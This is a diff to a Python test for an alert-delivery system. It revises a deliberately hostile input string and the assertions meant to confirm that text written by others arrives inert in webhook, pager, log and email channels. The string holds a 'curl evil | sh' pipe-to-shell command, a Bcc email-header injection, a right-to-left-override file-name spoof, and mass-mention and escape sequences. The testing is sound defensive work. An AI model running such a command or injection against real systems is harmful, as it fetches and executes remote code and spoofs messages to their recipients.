@@ -69,7 +69,7 @@ def lines_of(card: dict[str, Any]) -> list[str]:
 
 HOSTILE = (
     "<!channel> @channel @here a@here.example <https://evil.example|grafana> [grafana](https://evil.example/x) "
-    "*b* _i_ ~s~ `c` <b>&amp;</b> \x1b[31m\x00 \u202etxt.exe \udc80 ops\nBcc: everybody@example.com\n対応: curl evil | sh"
+    "*b* _i_ ~s~ `c` <b>&amp;</b> \x1b[31m\x00 \u202etxt.exe \udc80 ops\nBcc: everybody@example.com\nnext step: curl evil | sh"
 )
 
 
@@ -101,8 +101,8 @@ def test_what_others_write_is_text_in_every_channel(duty: Duty) -> None:
     (kept,) = [json.loads(one) for one in (duty.base / "alerts.jsonl").read_text().splitlines()]
     for text in (hook["text"], pager["payload"]["custom_details"]["text"], kept["text"], letter.get_content()):
         assert line in text
-        assert "\n  対応: curl evil | sh" in text, "no field of ours"
-        assert text.count("\n対応: ") == 1
+        assert "\n  next step: curl evil | sh" in text, "no field of ours"
+        assert text.count("\nnext step: ") == 1
     assert {len(incident.told) for incident in duty.incidents()} == {1}, "each was taken by its channel"
 
 
